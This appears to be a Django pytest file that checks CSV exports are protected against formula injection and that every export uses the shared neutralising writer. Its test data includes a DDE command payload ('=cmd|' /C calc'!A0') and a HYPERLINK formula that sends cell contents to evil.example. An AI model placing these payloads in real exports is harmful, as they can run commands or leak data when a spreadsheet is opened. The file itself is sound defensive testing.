"""No CSV the site writes holds a cell a spreadsheet would run as a formula (CSV injection); the JSON
beside it keeps the exact text."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.urls import reverse

from core.spreadsheets import csv_writer, spreadsheet_safe

from .factories import ClarificationFactory

REPO = Path(__file__).resolve().parent.parent
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(text):
    assert spreadsheet_safe(text) == "'" + text
    out = io.StringIO()
    csv_writer(out).writerow([text, 3, None])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == "'" + text


@pytest.mark.parametrize("text", ["群里说明天停水", "1+1=2", "a=b", "", "'=already quoted"])
def test_other_cells_are_written_as_they_are(text):
    assert spreadsheet_safe(text) == text
    assert spreadsheet_safe(42) == 42


@pytest.mark.django_db
def test_the_open_data_csv_neutralises_formulas_and_the_json_lines_keep_them(client):
    ClarificationFactory(title="=HYPERLINK(1)", claim_author="=cmd|' /C calc'!A0", region="@evil")
    text = b"".join(client.get(reverse("downloads:clarifications_csv")).streaming_content).decode()
    row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert row["claim_author"] == "'=cmd|' /C calc'!A0"
    assert row["title"] == "'=HYPERLINK(1)"
    assert row["region"] == "'@evil"
    lines = b"".join(client.get(reverse("downloads:clarifications_jsonl")).streaming_content).decode()
    record = json.loads(lines.splitlines()[0])
    assert (record["claim_author"], record["title"]) == ("=cmd|' /C calc'!A0", "=HYPERLINK(1)")


def test_every_csv_the_site_writes_goes_through_the_shared_writer():
    """A new CSV export that calls csv.writer directly would skip the neutralisation."""
    offenders = []
    folders = [
        folder
        for folder in REPO.iterdir()
        if folder.is_dir() and not folder.name.startswith(".") and folder.name not in {"node_modules", "tests", "data"}
    ]
    for path in (path for folder in folders for path in folder.glob("**/*.py")):
        relative = path.relative_to(REPO)
        if relative == Path("core/spreadsheets.py"):
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\b|from csv import", path.read_text(encoding="utf-8")):
            offenders.append(str(relative))
    assert offenders == []
